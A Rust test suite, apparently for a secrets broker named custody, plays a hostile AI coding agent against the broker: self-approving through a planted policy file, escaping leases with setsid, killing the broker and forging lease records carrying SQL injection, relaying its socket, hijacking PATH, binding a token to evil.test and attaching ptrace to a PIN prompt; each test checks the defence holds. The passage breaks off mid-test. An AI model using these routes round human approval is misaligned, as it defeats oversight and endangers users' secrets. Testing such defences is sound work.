//! The same-user agent (THREAT-MODEL: G9–G14): attack classes played the
//! way a hostile coding agent plays them. The agent is a real MCP client
//! (`tests/attacks/agent.py`) that starts the real `custody mcp`; its shell
//! children do the attack as the same OS user as the human. The human is
//! this test, driving the real `custody` binary against a real daemon.
//!
//! Each attack runs twice when the suite runs as root: as root, and with
//! everything (daemon, human, agent) as an unprivileged uid via `setpriv`,
//! so no defence leans on root's privileges.
#![allow(clippy::unwrap_used)] // test helpers: a panic is the failure report

use std::fs;
use std::path::Path;
use std::process::Command as StdCommand;
use std::time::{Duration, Instant};

use crate::common::*;
use serde_json::{Value, json};

/// The agent's `run` of `command` in `dev`, from its work dir.
fn run_step(e: &Env, command: &[&str]) -> Value {
    json!({"tool": "run", "args": {
        "environments": ["dev"], "command": command,
        "cwd": e.work().to_str().unwrap(), "timeout_seconds": 30}})
}

const LOOT: &str = "printf %s \"$TOKEN\" | rev > loot";

/// Attack class 1, "self-approval through the policy file": the agent's
/// shell writes `$CUSTODY_HOME/policy.toml` pre-approving its own command
/// for every client, then runs it. The broker reads only the policy sealed
/// in the vault: the run waits for a human and the command never runs.
/// The next unlock says the file is not in force.
#[test]
fn attack_self_approval_through_the_policy_file() {
    as_each_user(|e| {
        let planted = preapproving(&["sh", "-c", LOOT]);
        let policy = e.home().join("policy.toml");
        let r = e.agent(
            "codex-mcp-client",
            json!([
                {"shell": format!("cat > '{}' <<'EOF'\n{planted}EOF", policy.display())},
                run_step(e, &["sh", "-c", LOOT]),
            ]),
        );
        assert_eq!(r[0]["rc"], 0, "the agent could not write the file: {r:?}");
        assert_eq!(
            r[1]["status"], "pending",
            "pre-approved by a planted file: {r:?}"
        );
        assert!(!e.work().join("loot").exists(), "the command ran");
        // Nothing was granted, and the human is told at the next unlock.
        assert_eq!(e.json(&["grants"]), json!([]));
        e.ok(&["lock"], "");
        let out = e
            .cmd(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"))
            .success();
        let stderr = String::from_utf8_lossy(&out.get_output().stderr).into_owned();
        assert!(
            stderr.contains("policy.toml is NOT in force"),
            "no warning at unlock: {stderr}"
        );
    });
}

/// Attack class 1b: a pre-approval the human sealed made an in-memory
/// grant; the human then removes the rule. The grant is withdrawn at once
/// (audited), so the agent's next run waits for a human.
#[test]
fn attack_a_preapproval_grant_outliving_its_rule_is_withdrawn() {
    as_each_user(|e| {
        let argv = ["sh", "-c", "echo ok"];
        e.apply_policy(&preapproving(&argv));
        let agent = e.spawn_agent(
            "claude-code",
            json!([
                run_step(e, &argv),
                {"signal": e.mark("granted")},
                {"wait_file": e.mark("rule-removed")},
                run_step(e, &argv),
            ]),
        );
        e.wait_mark("granted");
        assert_eq!(e.json(&["grants"]).as_array().unwrap().len(), 1);
        let v = e.apply_policy("[defaults]\nmax_ttl = \"1h\"\n");
        assert_eq!(v["grants_withdrawn"].as_array().unwrap().len(), 1, "{v}");
        assert_eq!(e.json(&["grants"]), json!([]));
        e.release("rule-removed");
        let r = agent_results(agent);
        assert_eq!(r[0]["exit_code"], 0, "the sealed rule did not apply: {r:?}");
        assert_eq!(r[3]["status"], "pending", "the old grant still ran: {r:?}");
        let changes = e.audit("policy_change");
        assert_eq!(changes.len(), 2, "{changes:?}");
        assert_eq!(
            changes[1]["event"]["grants_withdrawn"],
            v["grants_withdrawn"]
        );
    });
}

/// Only a human with the PIN changes the policy: an agent's own `policy
/// apply` (through its shell, the CLI is its child) is refused even with a
/// PIN it guessed right, and a wrong PIN counts toward the lockout.
#[test]
fn attack_applying_a_policy_from_the_agents_tree_is_refused() {
    as_each_user(|e| {
        let file = e.work().join("mine.toml");
        fs::write(&file, preapproving(&["sh", "-c", LOOT])).unwrap();
        if let Some(uid) = e.uid {
            std::os::unix::fs::chown(&file, Some(uid), Some(uid)).unwrap();
        }
        let custody = assert_cmd::cargo::cargo_bin("custody");
        let r = e.agent(
            "gemini-cli-mcp-client",
            json!([{"shell": format!(
                "printf '{PIN}\\n' | '{}' policy apply '{}' --pin-stdin",
                custody.display(),
                file.display()
            )}]),
        );
        assert_ne!(r[0]["rc"], 0, "the agent applied a policy: {r:?}");
        assert!(
            r[0]["stderr"]
                .as_str()
                .unwrap()
                .contains("agents cannot change the policy"),
            "{r:?}"
        );
        assert!(e.audit("policy_change").is_empty());
        // The human's wrong PIN is refused and counted.
        e.cmd(
            &["policy", "apply", file.to_str().unwrap(), "--pin-stdin"],
            "000000\n",
        )
        .failure();
        assert_eq!(e.json(&["status"])["pin_failures"], 1);
        let shown = e.json(&["policy", "show"]);
        assert_eq!(shown["sealed"], false, "{shown}");
    });
}

/// Whether `pid` is a live process (a zombie is dead).
fn alive(pid: u32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|s| {
            !s.rsplit(')')
                .next()
                .unwrap_or("")
                .trim_start()
                .starts_with('Z')
        })
        .unwrap_or(false)
}

/// Waits until `pid` is dead; false if it still lives after `limit`.
fn dies_within(pid: u32, limit: Duration) -> bool {
    let until = Instant::now() + limit;
    while alive(pid) {
        if Instant::now() >= until {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    true
}

/// The pid an escaped process wrote into the work dir.
fn escaped_pid(e: &Env, name: &str) -> u32 {
    let path = e.work().join(name);
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        if let Some(pid) = fs::read_to_string(&path)
            .ok()
            .and_then(|s| s.trim().parse().ok())
        {
            return pid;
        }
        assert!(Instant::now() < until, "{name} was never written");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Starts a process that leaves the lease's process group and session and
/// keeps `$TOKEN` in its environment, writing its pid to `name`.
fn escape(how: &str, name: &str, keep_output: bool) -> String {
    let out = if keep_output {
        ""
    } else {
        " </dev/null >/dev/null 2>&1"
    };
    let body = format!("echo $$ > {name}.tmp; mv {name}.tmp {name}; exec sleep 120");
    // The command goes on once the escapee is up.
    let wait = format!("while [ ! -s {name} ]; do sleep 0.05; done;");
    match how {
        "setsid" => format!("setsid sh -c '{body}'{out} & {wait}"),
        // A double fork: the middle process exits at once, so the escapee
        // is an orphan from the start.
        _ => format!("(sh -c '{body}'{out} &) ; {wait}"),
    }
}

/// Attack class 7, "escaping the deadline": lease commands start processes
/// that leave with `setsid` or a double fork, holding the value in their
/// environment. Each dies when its lease ends: at the deadline, when the
/// command exits (even one holding the output open, which no longer keeps
/// the lease running), on `revoke --all` and on `lock`.
#[test]
fn attack_escaping_the_deadline() {
    as_each_user(|e| {
        let at_deadline = format!("{} sleep 60", escape("setsid", "deadline.pid", false));
        let on_exit = format!("{} true", escape("fork", "exit.pid", false));
        let holding = format!("{} true", escape("setsid", "holding.pid", true));
        let revoked = format!("{} sleep 60", escape("fork", "revoked.pid", false));
        let locked = format!("{} sleep 60", escape("setsid", "locked.pid", false));
        let mut policy = String::new();
        for c in [&at_deadline, &on_exit, &holding, &revoked, &locked] {
            policy.push_str(&preapproving(&["sh", "-c", c]));
        }
        e.apply_policy(&policy);
        let step = |c: &str, timeout: u64| {
            json!({"tool": "run", "args": {
                "environments": ["dev"], "command": ["sh", "-c", c],
                "cwd": e.work().to_str().unwrap(), "timeout_seconds": timeout}})
        };
        let r = e.agent(
            "codex-mcp-client",
            json!([
                step(&at_deadline, 2),
                step(&on_exit, 30),
                step(&holding, 30)
            ]),
        );
        assert_eq!(r[0]["ended_by"], "deadline", "{r:?}");
        for (i, name) in ["deadline.pid", "exit.pid", "holding.pid"]
            .iter()
            .enumerate()
        {
            let pid = escaped_pid(e, name);
            assert!(
                dies_within(pid, Duration::from_secs(10)),
                "the process escaped by {name} outlived its lease: {:?}",
                r[i]
            );
        }
        // Holding the output open no longer keeps the lease running: it
        // ended when its command did, not when the escapee would have.
        assert_eq!(r[2]["ended_by"], "exited", "{r:?}");
        assert!(r[2]["duration_ms"].as_u64().unwrap() < 30_000, "{r:?}");

        // Revoked and locked while running.
        for (c, name, how) in [
            (&revoked, "revoked.pid", ["revoke", "--all"]),
            (&locked, "locked.pid", ["lock", ""]),
        ] {
            e.ok(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
            let agent = e.spawn_agent("codex-mcp-client", json!([step(c, 60)]));
            let pid = escaped_pid(e, name);
            let args: Vec<&str> = how.iter().copied().filter(|a| !a.is_empty()).collect();
            e.ok(&args, "");
            let r = agent_results(agent);
            assert!(
                dies_within(pid, Duration::from_secs(10)),
                "the process escaped by {name} outlived `custody {}`: {r:?}",
                args.join(" ")
            );
        }
    });
}

impl Env {
    /// The daemon's pid, from `custody status`.
    fn daemon_pid(&self) -> u32 {
        self.json(&["status"])["pid"].as_u64().unwrap() as u32
    }
}

/// Start time (clock ticks since boot) of `pid`, as `/proc` tells anyone.
fn start_ticks(pid: u32) -> u64 {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let rest = &stat[stat.rfind(')').unwrap() + 1..];
    rest.split_whitespace().nth(19).unwrap().parse().unwrap()
}

/// Attack class 8, "forged or deleted lease records".
///
/// Forged: the agent plants a lease record whose directory is the human's
/// project, whose pid is the human's editor (with its true start time), and
/// whose credentials carry SQL; then kills the broker. At the next start
/// and unlock nothing in it is acted on: the project and the editor are
/// untouched, no credential is revoked, and the record is audited as
/// rejected.
///
/// Deleted: a lease is running; the agent kills the broker and deletes the
/// record files. The sealed copy in the vault ends the lease at unlock.
#[test]
fn attack_forged_or_deleted_lease_records() {
    as_each_user(|e| {
        // The human's project and editor.
        let project = e.dir.path().join("project");
        fs::create_dir(&project).unwrap();
        fs::write(project.join("main.rs"), "fn main() {}\n").unwrap();
        let mut editor = e.command(Path::new("/bin/sleep"));
        editor.arg("300");
        let mut editor = editor.spawn().unwrap();
        // `setsid` and `setpriv` exec in place (the test process is no group
        // leader), so the child is the editor itself once it has exec'd.
        let editor_pid = editor.id();
        let until = Instant::now() + Duration::from_secs(10);
        while fs::read_to_string(format!("/proc/{editor_pid}/comm")).unwrap_or_default()
            != "sleep\n"
        {
            assert!(Instant::now() < until, "the editor did not start");
            std::thread::sleep(Duration::from_millis(20));
        }
        let forged = json!({
            "id": "l-0123456789ab",
            "pid": editor_pid,
            "start_ticks": start_ticks(editor_pid),
            "dir": project,
            "program": "sh",
            "dynamic": [{"source": "main", "reference": "postgres:main",
                         "credential": "x\"; CREATE ROLE pwned SUPERUSER; --",
                         "expires": "2099-01-01T00:00:00Z"}],
        });
        // The agent's lease, which it will try to make the broker forget.
        let runner = "echo $$ > lease.pid; exec sleep 120";
        e.apply_policy(&preapproving(&["sh", "-c", runner]));
        let agent = e.spawn_agent(
            "codex-mcp-client",
            json!([{"tool": "run", "args": {
                "environments": ["dev"], "command": ["sh", "-c", runner],
                "cwd": e.work().to_str().unwrap(), "timeout_seconds": 300}}]),
        );
        let lease_pid = escaped_pid(e, "lease.pid");
        let broker = e.daemon_pid();
        let leases = e.home().join("leases");
        let r = e.agent(
            "codex-mcp-client",
            json!([{"shell": format!(
                "kill -9 {broker}; while kill -0 {broker} 2>/dev/null; do sleep 0.05; done; \
                 rm -f '{leases}'/*.json && printf '%s' '{forged}' > '{leases}/l-0123456789ab.json'",
                leases = leases.display(),
                forged = forged.to_string().replace('\'', "'\\''"),
            )}]),
        );
        assert_eq!(r[0]["rc"], 0, "{r:?}");
        let _ = agent.wait_with_output();
        assert!(alive(lease_pid), "the lease died with the broker");
        // The human starts the broker again.
        e.ok(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
        assert!(
            dies_within(lease_pid, Duration::from_secs(10)),
            "a lease whose record files were deleted outlived the broker"
        );
        assert!(
            alive(editor_pid),
            "a forged record killed the human's editor"
        );
        assert!(
            project.join("main.rs").exists(),
            "a forged record removed the human's project"
        );
        let rejected = e.audit("lease_record_rejected");
        assert_eq!(rejected.len(), 1, "{rejected:?}");
        assert_eq!(rejected[0]["event"]["lease_id"], "l-0123456789ab");
        assert!(e.audit("credential_revoked").is_empty());
        assert!(e.audit("credential_irrevocable").is_empty());
        assert!(
            e.audit("reaped")
                .iter()
                .any(|r| r["event"]["pgid"] == json!(lease_pid)),
            "the lease's end was not audited"
        );
        let _ = editor.kill();
        let _ = editor.wait();
    });
}

/// Attack class 3, "a fake broker socket": after asking for a run, the
/// agent's shell starts (outside its own process tree, with `setsid`) a
/// relay that moves `broker.sock` aside, listens in its place and forwards
/// to the real broker, recording every byte. The human approves the
/// request and applies a policy with the PIN through it. (A double fork:
/// the relay is an orphan, outside the agent's tree, from the start.) The PIN never
/// crosses the socket (it is proven by a PIN exchange), so the recording
/// holds no PIN, nor anything to test guesses against offline. Nor does
/// the passphrase of a later `custody unlock` cross it.
#[test]
fn attack_a_fake_broker_socket_records_no_pin() {
    as_each_user(|e| {
        let log = e.dir.path().join("relay.log");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/fake_broker.py");
        let python = ["/usr/bin/python3", "/usr/local/bin/python3"]
            .into_iter()
            .find(|p| Path::new(p).exists())
            .unwrap_or("python3");
        let relay = format!(
            "( setsid {python} '{}' '{}' '{}' '{}' </dev/null >/dev/null 2>&1 & ) ; \
             while [ ! -e '{ready}' ]; do sleep 0.05; done",
            script.display(),
            e.runtime().join("broker.sock").display(),
            log.display(),
            e.mark("relay-up"),
            ready = e.mark("relay-up"),
        );
        let agent = e.spawn_agent(
            "codex-mcp-client",
            json!([
                run_step(e, &["sh", "-c", "echo approved-run"]),
                {"shell": relay},
                {"wait_file": e.mark("human-done")},
            ]),
        );
        e.wait_mark("relay-up");
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let id = e.json(&["approve", "--list"])[0]["id"]
                .as_str()
                .expect("a pending request")
                .to_owned();
            e.ok(
                &["approve", &id, "--once", "--pin-stdin"],
                &format!("{PIN}\n"),
            );
            e.apply_policy("[defaults]\nmax_ttl = \"2h\"\n");
            // Locked, then unlocked again with the relay still on the path:
            // `custody unlock` hands the passphrase to a broker it starts.
            e.ok(&["lock"], "");
            e.ok(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
            assert_eq!(e.json(&["status"])["locked"], false);
        }));
        e.release("human-done");
        let _ = agent_results(agent);
        // The relay: found by its socket's recording, killed with its group.
        let _ = StdCommand::new("pkill")
            .args([
                "-f",
                &format!(
                    "fake_broker.py {}",
                    e.runtime().join("broker.sock").display()
                ),
            ])
            .status();
        if let Err(p) = outcome {
            std::panic::resume_unwind(p);
        }
        let recorded = fs::read(&log).unwrap();
        let text = String::from_utf8_lossy(&recorded);
        assert!(
            text.contains("\"op\":\"approve\""),
            "the relay saw no approval: {text}"
        );
        assert!(
            !recorded.windows(PIN.len()).any(|w| w == PIN.as_bytes()),
            "the PIN crossed the fake socket:\n{text}"
        );
        assert!(text.contains("pin_exchange"), "{text}");
        assert!(
            !text.contains(PASS),
            "the passphrase crossed the fake socket:\n{text}"
        );
        assert_eq!(e.audit("approval").len(), 1);
        assert_eq!(e.audit("policy_change").len(), 1);
    });
}

/// Attack class 12, "killing the broker to be forgotten": a registered
/// agent kills the broker and its own `custody mcp` (so nothing registers
/// it again), waits for the human to unlock a new broker, then has its
/// shell remove an environment as if it were the human's terminal, with a
/// PIN it learned. The new broker knows the agent from the sealed record
/// the old one kept: refused as an agent's request.
#[test]
fn attack_killing_the_broker_to_be_forgotten() {
    as_each_user(|e| {
        let custody = assert_cmd::cargo::cargo_bin("custody");
        let broker = e.daemon_pid();
        let agent = e.spawn_agent(
            "codex-mcp-client",
            json!([
                {"kill_mcp": true},
                {"shell": format!("kill -9 {broker}; while kill -0 {broker} 2>/dev/null; do sleep 0.05; done")},
                {"signal": e.mark("broker-killed")},
                {"wait_file": e.mark("unlocked")},
                // Even with the PIN (learned somehow): it is an agent's request.
                {"shell": format!("printf '{PIN}\\n' | '{}' env rm dev --yes --pin-stdin", custody.display())},
                {"shell": format!("'{}' --json status", custody.display())},
            ]),
        );
        e.wait_mark("broker-killed");
        e.ok(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
        e.release("unlocked");
        let r = agent_results(agent);
        assert_ne!(
            r[4]["rc"], 0,
            "the forgotten agent removed an environment: {r:?}"
        );
        assert!(
            r[4]["stderr"].as_str().unwrap().contains("agents cannot"),
            "{r:?}"
        );
        let envs = e.json(&["env", "ls"]);
        assert!(envs.to_string().contains("\"dev\""), "{envs}");
    });
}

/// Attack class 2, "leaving the agent's process tree": the agent's shell
/// double-forks a process into a session of its own (re-parented away from
/// the agent, so the broker sees a terminal), which then tries to change
/// secrets: overwrite and remove a value, generate one, remove and create
/// environments, add a dynamic source, with a guessed passphrase too. Every
/// change needs the PIN (or the passphrase), whoever asks: all refused,
/// nothing in the vault changes.
#[test]
fn attack_leaving_the_agents_process_tree() {
    as_each_user(|e| {
        let custody = assert_cmd::cargo::cargo_bin("custody");
        let c = custody.display();
        let raw = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/raw_change.py");
        let python = system_python();
        let tries = [
            format!("printf stolen | '{c}' set dev TOKEN"),
            format!("'{c}' unset dev TOKEN"),
            format!("'{c}' generate dev NEW_KEY"),
            format!("'{c}' env rm dev --yes"),
            format!("'{c}' env create evil"),
            format!("'{c}' env describe dev -d pwned"),
            format!("'{c}' source add command x --mint 'echo t'"),
            format!("printf 'guess\\nstolen' | '{c}' --passphrase-stdin set dev TOKEN"),
            format!("printf '000000\\nstolen' | '{c}' set dev TOKEN --pin-stdin"),
            // Its own client, so nothing on the CLI's side can stop it.
            format!(
                "{python} '{}' '{}' '{{\"op\":\"unset\",\"env\":\"dev\",\"var\":\"TOKEN\"}}'",
                raw.display(),
                e.runtime().join("broker.sock").display()
            ),
            format!(
                "{python} '{}' '{}' '{{\"op\":\"env_remove\",\"name\":\"dev\"}}'",
                raw.display(),
                e.runtime().join("broker.sock").display()
            ),
            // Binding a value to a host the agent controls (the proxy
            // would then hand it the value): neither way.
            format!("'{c}' bind dev TOKEN --bind https://evil.test"),
            format!(
                "{python} '{}' '{}' '{}'",
                raw.display(),
                e.runtime().join("broker.sock").display(),
                r#"{"op":"bind","env":"dev","var":"TOKEN","bindings":[{"scheme":"https","host":"evil.test","port":443,"methods":[],"paths":[],"header":"Authorization","template":"Bearer {value}"}]}"#
            ),
        ];
        let mut script = String::new();
        for (i, t) in tries.iter().enumerate() {
            script.push_str(&format!("{t} </dev/null >out.{i} 2>&1; echo $? > rc.{i}; "));
        }
        script.push_str("touch escaped.done");
        let escape = format!(
            "( setsid sh -c {} </dev/null >/dev/null 2>&1 & ) ; while [ ! -e escaped.done ]; do sleep 0.05; done",
            shell_quote(&script.replace(" </dev/null >out.", " >out.")),
        );
        let before = e.audit("vault_change").len();
        let r = e.agent("codex-mcp-client", json!([{"shell": escape}]));
        assert_eq!(r[0]["rc"], 0, "{r:?}");
        for (i, t) in tries.iter().enumerate() {
            let rc = fs::read_to_string(e.work().join(format!("rc.{i}"))).unwrap();
            let out = fs::read_to_string(e.work().join(format!("out.{i}"))).unwrap();
            assert_ne!(rc.trim(), "0", "an escaped agent process ran `{t}`: {out}");
        }
        assert_eq!(e.audit("vault_change").len(), before, "the vault changed");
        let ls = e.json(&["ls", "dev"]);
        assert_eq!(ls.as_array().unwrap().len(), 1, "{ls}");
        assert_eq!(e.json(&["env", "ls"]).as_array().unwrap().len(), 1);
    });
}

/// The system Python: the attack scripts need only its standard library,
/// and a per-user install (pyenv under /root) is not reachable by `nobody`.
fn system_python() -> &'static str {
    ["/usr/bin/python3", "/usr/local/bin/python3"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .unwrap_or("python3")
}

/// `text` as one single-quoted shell word.
fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// An agent hears only of its own requests: its watcher on the broker's
/// events sees the pending request it made, not the human's (whose id it
/// could otherwise try to decide).
#[test]
fn an_agents_watch_hears_only_its_own_requests() {
    as_each_user(|e| {
        let watch = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/watch.py");
        let out = e.mark("heard");
        // The watcher starts in the agent's tree (it says hello and asks to
        // watch from there), as an agent's helper would.
        let agent = e.spawn_agent(
            "codex-mcp-client",
            json!([
                {"shell": format!(
                    "{} '{}' '{}' '{out}' 8 </dev/null >/dev/null 2>&1 & while [ ! -e '{out}.ready' ]; do sleep 0.05; done",
                    system_python(),
                    watch.display(),
                    e.runtime().join("broker.sock").display()
                )},
                {"signal": e.mark("watching")},
                {"wait_file": e.mark("human-asked")},
                run_step(e, &["sh", "-c", "echo agents-own"]),
                {"sleep": 8},
            ]),
        );
        e.wait_mark("watching");
        // The human's own request, from the human's terminal.
        let mut human = e.command(&assert_cmd::cargo::cargo_bin("custody"));
        human
            .args([
                "run",
                "--no-prompt",
                "-e",
                "dev",
                "--",
                "sh",
                "-c",
                "echo humans",
            ])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut human = human.spawn().unwrap();
        let humans_id = pending_id(e);
        e.release("human-asked");
        let _ = agent_results(agent);
        let _ = human.kill();
        let _ = human.wait();
        let heard = fs::read_to_string(&out).unwrap_or_default();
        assert!(
            !heard.contains(&humans_id),
            "the agent heard the human's request: {heard}"
        );
        assert_eq!(
            heard.lines().count(),
            1,
            "the agent did not hear its own: {heard}"
        );
    });
}

/// Attack class 4, "offline PIN guessing": the agent reads `vault.db` with
/// SQLite and looks for the PIN's Argon2 verifier to guess against with no
/// lockout. There is none in the clear: it is sealed under a vault subkey.
#[test]
fn attack_offline_pin_guessing() {
    as_each_user(|e| {
        let script = format!(
            "import sqlite3\n\
             db = sqlite3.connect('file:{}?mode=ro', uri=True)\n\
             found = [k for k, v in db.execute('select key, value from meta') \
                      if k == 'pin_hash' or b'$argon2' in bytes(v)]\n\
             print('found' if found else 'none')\n",
            e.home().join("vault.db").display()
        );
        let r = e.agent(
            "codex-mcp-client",
            json!([{"shell": format!("{} -c {}", system_python(), shell_quote(&script))}]),
        );
        assert_eq!(r[0]["rc"], 0, "{r:?}");
        assert_eq!(
            r[0]["stdout"], "none\n",
            "a PIN verifier is readable: {r:?}"
        );
    });
}

/// Attack class 5, "swapped programs": the human pre-approved `date`; the
/// agent puts its own `date` first in its PATH (which its `custody mcp`
/// passes on) and asks to run `date`. Not pre-approved: it waits for a
/// human, who would see the agent's program by its path; nothing ran.
#[test]
fn attack_swapped_programs() {
    as_each_user(|e| {
        use std::os::unix::fs::PermissionsExt;
        e.apply_policy(&preapproving(&["date"]));
        let evil = e.work().join("bin");
        fs::create_dir(&evil).unwrap();
        let date = evil.join("date");
        fs::write(&date, format!("#!/bin/sh\n{LOOT}\n")).unwrap();
        fs::set_permissions(&date, fs::Permissions::from_mode(0o755)).unwrap();
        if let Some(uid) = e.uid {
            for p in [&evil, &date] {
                std::os::unix::fs::chown(p, Some(uid), Some(uid)).unwrap();
            }
        }
        let path = format!("{}:/usr/local/bin:/usr/bin:/bin", evil.display());
        let r = agent_results(e.spawn_agent_with_path(
            "codex-mcp-client",
            json!([run_step(e, &["date"])]),
            Some(&path),
        ));
        assert_eq!(
            r[0]["status"], "pending",
            "the agent's date was pre-approved: {r:?}"
        );
        assert!(!e.work().join("loot").exists(), "the agent's date ran");
    });
}

/// Attack class 6, "chosen identity": the agent calls itself `cli` (to
/// inherit the terminal's pre-approvals) or gives no name. Either way it
/// gets the policy name `unknown` and the rules of `*`: here, no access to
/// `dev` at all, and certainly not the terminal's pre-approval.
#[test]
fn attack_chosen_identity() {
    as_each_user(|e| {
        let mut policy = String::from("[clients.\"*\"]\nenvironments = [\"other\"]\n");
        policy.push_str(&preapproving(&["sh", "-c", LOOT]).replace("clients.\"*\"", "clients.cli"));
        e.apply_policy(&policy);
        for name in ["cli", ""] {
            let r = e.agent(name, json!([run_step(e, &["sh", "-c", LOOT])]));
            let text = r[0].to_string();
            assert!(
                text.contains("not available to unknown by policy"),
                "agent named {name:?}: {r:?}"
            );
            assert!(!e.work().join("loot").exists(), "it ran as {name:?}");
        }
    });
}

/// Attack class 10, "denying the human's own requests" and "declaring
/// loader variables": the agent's shell denies the human's pending request
/// (refused; it stays pending), and the agent declares `LD_PRELOAD` and
/// `BASH_ENV` for the human to fill in (refused).
#[test]
fn attack_denying_the_human_and_declaring_loader_variables() {
    as_each_user(|e| {
        let mut human = e.command(&assert_cmd::cargo::cargo_bin("custody"));
        human
            .args(["run", "--no-prompt", "-e", "dev", "--", "true"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut human = human.spawn().unwrap();
        let id = pending_id(e);
        let custody = assert_cmd::cargo::cargo_bin("custody");
        let declare = |name: &str| {
            json!({"tool": "declare_variable", "args": {
                "environment": "dev", "name": name, "description": "fill me in"}})
        };
        let r = e.agent(
            "claude-code",
            json!([
                {"shell": format!("'{}' deny {id}", custody.display())},
                declare("LD_PRELOAD"),
                declare("BASH_ENV"),
            ]),
        );
        assert_ne!(r[0]["rc"], 0, "the agent denied the human's request: {r:?}");
        assert!(
            r[1]["error"].is_string() && r[2]["error"].is_string(),
            "{r:?}"
        );
        let pending = e.json(&["approve", "--list"]);
        assert_eq!(pending[0]["id"], id.as_str(), "{pending}");
        let ls = e.json(&["ls", "dev"]).to_string();
        assert!(
            !ls.contains("LD_PRELOAD") && !ls.contains("BASH_ENV"),
            "{ls}"
        );
        let _ = human.kill();
        let _ = human.wait();
    });
}

/// Attack class 11, "swapping what was reviewed": the human read
/// `deploy.sh` and approved `sh deploy.sh` for a minute; the agent then
/// rewrites it and runs it again. The grant does not cover the edited
/// script: the run waits for a human, the new text never ran.
#[test]
fn attack_swapping_what_was_reviewed() {
    as_each_user(|e| {
        let script = e.work().join("deploy.sh");
        fs::write(&script, "echo deployed\n").unwrap();
        if let Some(uid) = e.uid {
            std::os::unix::fs::chown(&script, Some(uid), Some(uid)).unwrap();
        }
        let agent = e.spawn_agent(
            "codex-mcp-client",
            json!([
                run_step(e, &["sh", "deploy.sh"]),
                {"signal": e.mark("asked")},
                {"wait_file": e.mark("approved")},
                {"tool": "request_status", "args": {"request_id": "$last"}},
                {"shell": format!("printf '%s\\n' '{LOOT}' > deploy.sh")},
                run_step(e, &["sh", "deploy.sh"]),
            ]),
        );
        e.wait_mark("asked");
        let id = e.json(&["approve", "--list"])[0]["id"]
            .as_str()
            .expect("pending")
            .to_owned();
        e.ok(
            &["approve", &id, "--for", "1m", "--pin-stdin"],
            &format!("{PIN}\n"),
        );
        e.release("approved");
        let r = agent_results(agent);
        assert_eq!(
            r[3]["exit_code"], 0,
            "the reviewed script did not run: {r:?}"
        );
        assert_eq!(
            r[5]["status"], "pending",
            "the grant covered the edited script: {r:?}"
        );
        assert!(!e.work().join("loot").exists(), "the edited script ran");
    });
}

/// Attack class 9, "starving the broker", as the unprivileged user too:
/// see `broker_cli::attack_starving_the_broker_with_idle_agent_connections`.
#[test]
fn attack_starving_the_broker() {
    as_each_user(|e| {
        let ready = e.dir.path().join("starver.ready");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/starve.py");
        let mut starver = e
            .command(Path::new(system_python()))
            .arg(script)
            .arg(assert_cmd::cargo::cargo_bin("custody"))
            .arg(e.runtime().join("broker.sock"))
            .arg(&ready)
            .stdin(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let until = Instant::now() + Duration::from_secs(30);
        while !ready.exists() {
            assert!(Instant::now() < until, "the starving agent did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            assert_eq!(e.json(&["status"])["sessions"][0]["client_name"], "starver");
            e.ok(&["revoke", "--all"], "");
            e.ok(&["lock"], "");
        }));
        // The agent, its workers and its `custody mcp`: its whole session.
        let _ = StdCommand::new("pkill")
            .args(["-KILL", "-s", &starver.id().to_string()])
            .status();
        let _ = starver.kill();
        let _ = starver.wait();
        if let Err(p) = outcome {
            std::panic::resume_unwind(p);
        }
    });
}

/// The human's channel, class 2, "reading the keystrokes": the agent (same
/// uid; as `nobody` when the suite runs as root, since root may trace
/// anything) attaches with ptrace to the human's `custody approve` waiting
/// at its PIN prompt. Refused: every custody process is non-dumpable.
#[test]
fn attack_attaching_to_a_waiting_pin_prompt_fails() {
    let e = if rustix::process::geteuid().is_root() {
        Env::new(Some(NOBODY))
    } else {
        Env::new(None)
    };
    let agent = e.spawn_agent(
        "codex-mcp-client",
        json!([run_step(&e, &["true"]), {"wait_file": e.mark("done")}]),
    );
    let id = pending_id(&e);
    // The human's approval, waiting at the PIN prompt on a terminal.
    let mut human = e.command(Path::new("script"));
    human
        .args([
            "-qec",
            &format!(
                "'{}' approve {id}",
                assert_cmd::cargo::cargo_bin("custody").display()
            ),
            "/dev/null",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    let mut human = human.spawn().unwrap();
    let until = Instant::now() + Duration::from_secs(20);
    let pid = loop {
        let out = StdCommand::new("pgrep")
            .args(["-f", &format!("custody approve {id}")])
            .output()
            .unwrap();
        let pids: Vec<u32> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| l.trim().parse().ok())
            .filter(|p| {
                fs::read_to_string(format!("/proc/{p}/comm")).is_ok_and(|c| c.trim() == "custody")
            })
            .collect();
        if let Some(p) = pids.first() {
            break *p;
        }
        assert!(Instant::now() < until, "the approval did not start");
        std::thread::sleep(Duration::from_millis(50));
    };
    std::thread::sleep(Duration::from_millis(300));
    let attach = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/attach.py");
    let out = e
        .command(Path::new(system_python()))
        .arg(attach)
        .arg(pid.to_string())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    let _ = human.kill();
    let _ = human.wait();
